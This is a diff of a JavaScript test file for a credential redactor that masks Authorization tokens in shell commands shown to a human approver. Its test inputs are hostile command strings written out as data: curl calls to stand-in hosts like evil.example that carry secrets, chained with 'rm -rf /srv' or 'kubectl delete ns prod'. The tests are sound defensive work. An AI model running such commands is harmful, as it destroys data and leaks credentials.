@@ -189,6 +189,26 @@ describe('an Authorization header with a quoted token', () => {
     // Unquoted, the shell splits the header at its blank: what follows is another word, shown to the approver.
     cases([['curl -H Authorization:abc https://evil.example/x; rm -rf /srv', 'curl -H Authorization:[redacted] https://evil.example/x; rm -rf /srv']]);
     cases([['echo "a"Authorization:abc https://evil.example/x "b"', 'echo "a"Authorization:[redacted] https://evil.example/x "b"']]);
+    cases([
+      ['curl "-H Authorization: Bot S3cret" https://x', 'curl "-H Authorization: [redacted]" https://x'],
+      ['curl -H "X-Authorization: Bot S3cret" https://x', 'curl -H "X-Authorization: [redacted]" https://x'],
+    ]);
+  });
+
+  it('never runs a header\'s value past what holds it, hiding the command after it from an approver (found by review)', () => {
+    cases([
+      // a continuation line starting with -H is the shell's words, not a header line
+      ['curl -sS \\\n  -H Authorization:$TOKEN https://evil.example/x; rm -rf /srv', 'curl -sS \\\n  -H Authorization:[redacted] https://evil.example/x; rm -rf /srv'],
+      // a JSON body's value quote closes inside the shell's quotes, or it is not known to
+      ['curl -sf -d \'{"Authorization":"Bearer S3cret"}\' https://hooks.example/x && kubectl delete ns prod', 'curl -sf -d \'{"Authorization":"[redacted]\' https://hooks.example/x && kubectl delete ns prod'],
+      // the shell's closing quote ends the header: what follows is another part
+      ['curl -H \'Authorization: \'"$AUTH" https://api.example/v1 && kubectl delete ns prod', 'curl -H \'Authorization: \'[redacted] https://api.example/v1 && kubectl delete ns prod'],
+      // an escaped backquote, or one that nothing closes, is text
+      ['curl -H Authorization: \\`x https://evil.example/x; rm -rf /srv', 'curl -H Authorization: \\[redacted] https://evil.example/x; rm -rf /srv'],
+      ['ssh host "curl -H \'Authorization: x\\`\' https://evil.example/x; rm -rf /srv"', 'ssh host "curl -H \'Authorization: [redacted]\' https://evil.example/x; rm -rf /srv"'],
+    ]);
+    // a port made by a substitution is no password, and no @ further on makes it one
+    kept('curl -fsS "http://localhost:$(cat /run/port)"; rm -rf /srv; git config user.email "dev@corp.example"');
   });
 
   it('hides a URL password made by substitutions the expression could not read: nested, two, backquoted, with a comment', () => {
